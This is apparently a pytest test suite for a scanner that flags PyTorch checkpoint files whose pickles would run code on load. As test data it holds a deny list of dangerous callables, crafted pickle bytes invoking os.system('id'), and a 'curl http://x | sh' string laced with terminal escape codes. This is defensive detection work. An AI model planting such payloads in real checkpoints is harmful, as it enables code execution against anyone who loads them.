"""Files that would run code when loaded: said, never done; the tensors beside it are still counted."""

from __future__ import annotations

import argparse
import collections
import datetime as dt
import enum
import functools
import pathlib
import pickle
import struct
import zipfile
from pathlib import Path

import pytest

from nanwatch.checkpoints.scan import scan_file
from nanwatch.checkpoints.trust import judge
from tests.checkpoints.making import POISONED, archive, name, scanned, state_dict, tensor, text, tried


def call(module: str, what: str, *args: bytes) -> bytes:
    return name(module, what) + b"(" + b"".join(args) + b"tR"


CALLS = [
    ("os", "system"), ("posix", "system"), ("nt", "system"), ("subprocess", "Popen"), ("builtins", "eval"),
    ("builtins", "exec"), ("builtins", "getattr"), ("builtins", "__import__"), ("builtins", "open"),
    ("__builtin__", "eval"), ("commands", "getoutput"), ("runpy", "run_path"), ("importlib", "import_module"),
    ("shutil", "rmtree"), ("socket", "create_connection"), ("webbrowser", "open"), ("pickle", "loads"),
    ("_pickle", "loads"), ("ctypes", "CDLL"), ("timeit", "timeit"), ("cProfile", "run"), ("pdb", "run"),
    ("pty", "spawn"), ("bdb", "Bdb"), ("asyncio", "create_subprocess_shell"), ("pydoc", "pipepager"),
    ("code", "interact"), ("operator", "attrgetter"), ("operator", "methodcaller"),
    ("types", "FunctionType"), ("types", "CodeType"),
    ("marshal", "loads"), ("urllib.request", "urlopen"), ("pathlib", "Path.unlink"), ("tempfile", "mktemp"),
    ("torch", "load"), ("torch.hub", "load"), ("torch.serialization", "load"), ("torch.storage", "_load_from_bytes"),
    ("torch.jit", "load"), ("torch.utils.cpp_extension", "load_inline"), ("torch.utils.collect_env", "run"),
    ("torch._inductor.codecache", "compile_file"), ("torch.fx.graph_module", "reduce_graph_module"),
    ("torch.jit.unsupported_tensor_ops", "execWrapper"), ("torch.utils.bottleneck.__main__", "run_cprofile"),
    ("torch.serialization", "os.system"), ("torch.nn.modules.module", "torch.load"), ("torch", "from_file"),
    ("numpy", "load"), ("numpy.f2py.crackfortran", "getlincoef"), ("numpy.testing._private.utils", "runstring"),
    ("dill._dill", "_create_code"), ("cloudpickle.cloudpickle", "_make_function"), ("joblib", "load"),
    ("pip", "main"), ("requests", "get"), ("aiohttp", "request"), ("collections", "os.system"),
]  # fmt: skip


@pytest.mark.parametrize(("module", "what"), CALLS)
def test_what_runs_code_is_hostile(tmp_path: Path, module: str, what: str) -> None:
    """A call that no checkpoint needs makes the file hostile, wherever it hides."""
    found = scanned(tmp_path, state_dict({"weight": tensor(), "x": call(module, what, text("id"))}), {"0": POISONED})
    assert found.state == "hostile"
    assert found.problem.startswith("would run ")
    assert "'id'" in found.problem
    assert (found.nan, found.inf) == (1, 1)


def test_what_it_tried_is_said_inertly(tmp_path: Path) -> None:
    """Of the arguments the beginning is shown, without anything that a terminal or Markdown would obey."""
    evil = "curl http://x \x1b]52;c;ZXZpbA==\x07\x1b[2J\u202e | sh " + "y" * 5000
    found = scanned(tmp_path, state_dict({"x": call("os", "system", text(evil))}))
    assert found.problem.startswith("would run os.system('curl http://x ")
    assert found.problem.isprintable()
    assert len(found.problem) < 120


@pytest.mark.parametrize(
    "pickle_",
    [
        b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x02id\x85R.",
        b"\x80\x02(cos\nsystem\nX\x02\0\0\0ido.",
        b"(S'id'\nios\nsystem\n.",
        b"\x80\x02cos\nsystem\nX\x02\0\0\0id\x85\x81.",
        b"\x80\x04cos\nsystem\nX\x02\0\0\0id\x85}\x92.",
        b"cos\nsystem\n(S'id'\ntR.",
        b"\x80\x04\x8c\x02os\x94\x8c\x06system\x940h\0h\1\x93\x8c\x02id\x85R.",
        b"\x80\x02cos\nsystem\nX\x02\0\0\0id\x85R",  # it runs before it fails
        b"\x80\x02cos\nsystem\nX\x02\0\0\0id\x85R0\xfe.",
    ],
)
def test_every_way_to_call_is_seen(tmp_path: Path, pickle_: bytes) -> None:
    """By whatever opcodes, in an archive or alone, before or after the pickle breaks."""
    assert scanned(tmp_path, pickle_).problem == "would run os.system('id')"
    alone = tmp_path / "alone.pkl"
    alone.write_bytes(pickle_)
    assert scan_file(alone).problem == "would run os.system('id')"


def test_naming_without_calling_is_seen(tmp_path: Path) -> None:
    """A dangerous function that is only named, or wrapped, is told."""
    wrapped = call("functools", "partial", name("os", "system"), text("id"))
    found = scanned(tmp_path, state_dict({"x": wrapped}))
    assert (found.state, found.problem) == ("hostile", "refers to os.system")


def test_calling_what_was_built_is_seen(tmp_path: Path) -> None:
    """What the pickle builds, it has no reason to call."""
    built = call("functools", "partial", name("mypkg", "Thing")) + b")R"
    assert "would call something that it builds" in scanned(tmp_path, state_dict({"x": built})).problem


def test_changing_a_class_is_seen(tmp_path: Path) -> None:
    """Setting attributes of a class makes its methods others."""
    changed = name("torch.nn", "Linear") + b"}" + text("forward") + text("x") + b"sb"
    assert scanned(tmp_path, state_dict({"x": changed})).problem == "would change torch.nn.Linear"


def test_making_a_class_is_seen() -> None:
    """`type` of a value is a type; `type` with bases makes a new one."""
    assert not tried(state_dict({"x": call("builtins", "type", b"N")})).hostile
    assert tried(state_dict({"x": call("builtins", "type", b"NNN")})).hostile


class Color(enum.Enum):
    RED = 1


def test_what_checkpoints_are_made_of_is_not_hostile() -> None:
    """Settings, paths, dates, enumerations and others' classes are no alarm; foreign classes are remarked."""
    settings = [argparse.Namespace(lr=0.1), pathlib.PurePosixPath("/a"), dt.datetime(2026, 1, 1),
                collections.defaultdict(list, a=[1]), collections.Counter("ab"), {1, 2}, frozenset([3]), 1j, range(3),
                functools.partial(int, "3"), Color.RED, bytearray(b"x"), slice(1, 2), type(None)]  # fmt: skip
    for protocol in (2, 4, 5):
        found = tried(pickle.dumps({"settings": settings}, protocol))
        assert found.hostile == []
        assert len(found.remarks) == 1
        assert f"holds objects of {Color.__module__}.Color" in found.remarks[0]


def test_a_member_of_an_enumeration_by_its_name_is_not_hostile() -> None:
    """Python 3.11 pickles members of enumerations with `getattr`: of a class, a plain name."""
    member = call("builtins", "getattr", name("mypkg.config", "Mode"), text("FAST"))
    assert not tried(state_dict({"mode": member})).hostile
    for target, attribute in (
        (name("mypkg", "Mode"), "__class__"),
        (name("mypkg", "mode"), "x"),
        (text("a"), "format"),
    ):
        hidden = call("builtins", "getattr", target, text(attribute))
        assert tried(state_dict({"mode": hidden})).hostile


def test_a_class_of_somebody_is_remarked(tmp_path: Path) -> None:
    """An unknown class is no alarm: the safe way to load it would refuse it, and that is said."""
    found = scanned(tmp_path, state_dict({"weight": tensor(), "cfg": call("mypkg.model", "Net")}), {"0": POISONED})
    assert found.state == "nonfinite"
    assert found.remarks == ("holds objects of mypkg.model.Net: torch.load(weights_only=True) would refuse it",)


@pytest.mark.parametrize(
    ("module", "what", "verdict"),
    [
        ("torch._utils", "_rebuild_tensor_v2", "known"), ("torch", "FloatStorage", "known"),
        ("torch.nn.modules.conv", "Conv2d", "known"), ("ultralytics.nn.tasks", "DetectionModel", "known"),
        ("ultralytics.nn.modules.block", "C2f", "known"), ("models.yolo", "Model", "known"),
        ("torch.optim.adamw", "AdamW", "known"), ("numpy._core.multiarray", "scalar", "known"),
        ("transformers.training_args", "TrainingArguments", "known"), ("omegaconf.dictconfig", "DictConfig", "known"),
        ("torch.nn.functional", "relu", "inert"), ("torch._C._nn", "gelu", "inert"), ("torch", "relu", "inert"),
        ("mypkg.model", "Net", "foreign"), ("__main__", "Net", "foreign"), ("os", "system", "dangerous"),
        ("omegaconf", "OmegaConf.load", "inert"), ("a b", "c", "dangerous"), ("", "", "dangerous"),
    ],
)  # fmt: skip
def test_names_are_judged_by_what_they_do(module: str, what: str, verdict: str) -> None:
    """Each family of names has its verdict."""
    assert judge(module, what) == verdict


def test_a_bomb_of_tensors_and_references_is_bounded(tmp_path: Path) -> None:
    """References without end to the same records are walked once."""
    layers = b"]q\0" + b"".join(
        b"](" + b"h" + bytes([i]) + (b"h" + bytes([i])) * 9 + b"eq" + bytes([i + 1]) for i in range(90)
    )
    found = scanned(tmp_path, b"\x80\x02" + layers + b".")
    assert found.problem == "holds no tensors"


def test_objects_nested_without_end_are_refused(tmp_path: Path) -> None:
    """Nesting deeper than any checkpoint is one clear line."""
    found = scanned(tmp_path, b"\x80\x02" + b"]" * 50_000 + b"a" * 49_999 + b".")
    assert (found.state, found.problem) == ("unreadable", "its objects nest deeper than 1,000 levels")


def test_names_are_shown_inertly(tmp_path: Path) -> None:
    """A tensor's name is the file's word: it is shown without what a terminal obeys."""
    found = scanned(tmp_path, state_dict({"\x1b[31mevil\n\u202e" + "x" * 9000: tensor()}), {"0": POISONED})
    assert found.bad[0].name.isprintable()
    assert len(found.bad[0].name) <= 400


@pytest.mark.parametrize(
    ("shape", "strides", "count"),
    [((5,), (1,), 4), ((4,), (2,), 4), ((2, 2), (1,), 4), ((-1,), (1,), 4), ((4,), (1,), 99)],
)
def test_a_tensor_that_cannot_be_is_corrupted(
    tmp_path: Path, shape: tuple[int, ...], strides: tuple[int, ...], count: int
) -> None:
    """A tensor that reaches out of its storage, or a storage that is not there in full, is a contradiction."""
    found = scanned(tmp_path, state_dict({"w": tensor("0", count, shape, strides)}), {"0": POISONED})
    assert found.state == "corrupted"


def test_a_missing_storage_is_corrupted(tmp_path: Path) -> None:
    """A tensor without its storage is a contradiction."""
    found = scanned(tmp_path, state_dict({"w": tensor("7")}), {"0": POISONED})
    assert (found.state, found.problem) == ("corrupted", "its record data/7 is missing")


def test_a_packed_archive_is_read(tmp_path: Path) -> None:
    """An archive that somebody has packed is read, piece by piece."""
    raw = struct.pack("<f", float("nan")) + bytes(4 * 299_999)
    pickled = state_dict({"w": tensor("0", 300_000, (300_000,))})
    found = scan_file(archive(tmp_path / "packed.pt", pickled, {"0": raw}, packed=True))
    assert (found.state, found.nan) == ("nonfinite", 1)


def test_a_raw_pickle_is_called_one(tmp_path: Path) -> None:
    """A pickle that no PyTorch wrote is called what it is."""
    alone = tmp_path / "data.pkl"
    alone.write_bytes(pickle.dumps({"a": 1}))
    found = scan_file(alone)
    assert (found.state, found.problem) == (
        "unreadable", "is a Python pickle, not a file of PyTorch: its numbers were not looked at",
    )  # fmt: skip


def test_the_pickle_that_is_read_is_the_one_that_would_be_loaded(tmp_path: Path) -> None:
    """Of two pickles in an archive, the one that PyTorch would load is looked at; two of one name are refused."""
    evil, path = state_dict({"x": call("os", "system", text("id"))}), tmp_path / "two.pt"
    for first, second, state in [
        ("evil/data.pkl", "a/data.pkl", "hostile"),
        ("a/x", "evil/data.pkl", "unreadable"),
        ("a/DATA.PKL", "a/data.pkl", "corrupted"),
    ]:
        with zipfile.ZipFile(path, "w") as made:
            made.writestr(first, evil)
            made.writestr(second, state_dict({"w": tensor()}))
            made.writestr("a/data/0", POISONED)
        assert scan_file(path).state == state
